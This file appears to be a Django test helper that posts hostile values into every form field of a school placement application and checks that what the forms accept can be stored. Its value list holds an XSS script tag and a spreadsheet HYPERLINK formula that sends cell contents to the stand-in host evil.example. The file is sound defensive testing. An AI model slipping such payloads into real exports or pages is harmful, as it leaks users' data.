"""Hostile input for the form walk (test_hostile_forms): every form class of the project, a
way to build each one as its view does, and the values an attacker types or posts."""

from __future__ import annotations

import datetime as dt
import importlib
import inspect
import pkgutil
from collections.abc import Callable, Iterator
from typing import Any

from django import forms
from django.contrib.auth.forms import AuthenticationForm, SetPasswordForm
from django.test import RequestFactory

from accounts.models import User
from companies.models import Company, Offer
from programmes.models import Programme
from students.models import Student

APPS = [
    "accounts",
    "catalog",
    "cockpit",
    "companies",
    "followup",
    "matching",
    "placements",
    "programmes",
    "spreadsheets",
    "students",
]

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HUGE = "x" * 100_000
TWENTY_DIGITS = "9" * 20
# (name, value): each is posted in every field of every form, one field at a time and in all
# fields at once. A multi-select gets the value as one of its choices; lists are lists.
VALUES: list[tuple[str, Any]] = [
    ("100.000 tekens", HUGE),
    ("20 cijfers", TWENTY_DIGITS),
    ("negatief", "-1"),
    ("negatief 20 cijfers", "-" + TWENTY_DIGITS),
    ("NUL-byte", "ab\x00cd"),
    ("formule", FORMULA),
    ("formule +", "+31 6 12345678"),
    ("script", "<script>alert(1)</script>"),
    ("NaN", "NaN"),
    ("oneindig", "1e999"),
    ("datum jaar 1", "0001-01-01T00:00"),
    ("datum jaar 9999", "9999-12-31"),
    ("onbestaande keuze", "bestaat-niet"),
    ("lijst van 5.000 ids", [str(i) for i in range(1, 5001)]),
    ("lege lijst-waarde", ["", TWENTY_DIGITS, "-1", "abc"]),
]

# Pairs of fields whose second must not lie before the first (the form says so on `end`).
DATE_ORDER = [
    ("period_start", "period_end"),
    ("available_from", "available_until"),
    ("preferences_open_at", "preferences_close_at"),
]


def all_forms() -> list[type[forms.BaseForm]]:
    """Every form class defined in one of our apps' `forms` modules (or packages)."""
    found: list[type[forms.BaseForm]] = []
    for app in APPS:
        try:
            package = importlib.import_module(f"{app}.forms")
        except ModuleNotFoundError:
            continue
        modules = [package]
        if hasattr(package, "__path__"):
            modules += [
                importlib.import_module(f"{package.__name__}.{m.name}")
                for m in pkgutil.iter_modules(package.__path__)
            ]
        for module in modules:
            for _name, cls in inspect.getmembers(module, inspect.isclass):
                if issubclass(cls, forms.BaseForm) and cls.__module__ == module.__name__:
                    found.append(cls)
    return sorted(found, key=lambda c: f"{c.__module__}.{c.__name__}")


class Context:
    """Objects of one school, to build each form as its view would."""

    def __init__(self, *, coordinator: User, student: Student, offer: Offer) -> None:
        self.coordinator = coordinator
        self.student = student
        self.offer = offer
        self.programme: Programme = student.programme
        self.institution_id = coordinator.institution_id

    def kwargs(self, form_class: type[forms.BaseForm]) -> dict[str, Any]:
        """The keyword arguments the form's __init__ requires."""
        values: dict[str, Callable[[], Any]] = {
            "institution_id": lambda: self.institution_id,
            "student": lambda: self.student,
            "programme": lambda: self.programme,
            "submit": lambda: "Opslaan",
            "companies": lambda: Company.objects.filter(institution=self.institution_id),
            "programmes": lambda: Programme.objects.filter(institution=self.institution_id),
            "limit": lambda: 3,
            "options": lambda: self._options(form_class),
            "choices": lambda: [(str(self.offer.pk), str(self.offer))],
        }
        wanted = inspect.signature(form_class.__init__).parameters
        return {
            name: values[name]()
            for name, p in wanted.items()
            if p.kind == p.KEYWORD_ONLY and p.default is p.empty
        }

    def _options(self, form_class: type[forms.BaseForm]) -> Any:
        if form_class.__name__ == "ReplacementForm":
            return [{"offer": self.offer, "pair": _Pair(score=80.0), "free": 1}]
        return Offer.objects.filter(pk=self.offer.pk)

    def build(self, form_class: type[forms.BaseForm], data: Any) -> forms.BaseForm:
        kwargs = self.kwargs(form_class)
        if issubclass(form_class, SetPasswordForm):
            return form_class(self.coordinator, data)
        if issubclass(form_class, AuthenticationForm):  # the lockout (axes) needs the request
            return form_class(RequestFactory().post("/"), data=data)
        return form_class(data=data, **kwargs)


class _Pair:
    def __init__(self, score: float) -> None:
        self.score = score


def field_names(form: forms.BaseForm) -> list[str]:
    return [name for name, field in form.fields.items() if not isinstance(field, forms.FileField)]


def posted(name: str, value: Any, field: forms.Field) -> tuple[str, Any]:
    """How a browser would post `value` in `field` (a multi-select posts a list)."""
    multiple = isinstance(field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField)
    if isinstance(value, list):
        return name, value
    return name, [value] if multiple else value


def unsafe(value: Any) -> str | None:
    """What is wrong with a cleaned value, or None: an accepted value must be storable."""
    if isinstance(value, str):
        if "\x00" in value:
            return "NUL-byte"
        if len(value) > 20_000:
            return f"{len(value)} tekens"
    if isinstance(value, bool):
        return None
    if isinstance(value, int) and not -(2**31) <= value < 2**31:
        return f"getal {value}"
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return f"getal {value}"
    if isinstance(value, dt.datetime | dt.date) and not 1900 <= value.year <= 2200:
        return f"datum {value}"
    if isinstance(value, list | tuple):
        if len(value) > 1000:
            return f"{len(value)} keuzes"
        for item in value:
            problem = unsafe(item)
            if problem:
                return problem
    return None


def walk_form(
    form_class: type[forms.BaseForm], context: Context
) -> Iterator[tuple[str, str, forms.BaseForm | Exception]]:
    """(field, value name, bound form after is_valid() or the exception it raised) for every
    field with every hostile value, then for all fields at once with each value."""
    names = field_names(context.build(form_class, None))
    blank = context.build(form_class, None)
    for label, value in VALUES:
        for name in [*names, "*"]:
            targets = names if name == "*" else [name]
            data = _querydict(dict(posted(n, value, blank.fields[n]) for n in targets))
            try:
                form = context.build(form_class, data)
                form.is_valid()
                yield name, label, form
            except Exception as exc:  # the walk reports it; a form may never raise
                yield name, label, exc


def _querydict(values: dict[str, Any]) -> Any:
    from django.http import QueryDict

    data = QueryDict(mutable=True)
    for key, value in values.items():
        if isinstance(value, list):
            data.setlist(key, value)
        else:
            data[key] = value
    return data


def admin_forms() -> list[type[forms.BaseForm]]:
    """The add/change form of every registered ModelAdmin, as an institution admin gets it."""
    from django.contrib import admin

    request = RequestFactory().get("/")
    request.user = User(is_superuser=True, is_active=True, email="beheer@example.nl")
    return [
        model_admin.get_form(request)
        for model_admin in admin.site._registry.values()
        if model_admin.has_add_permission(request)
    ]
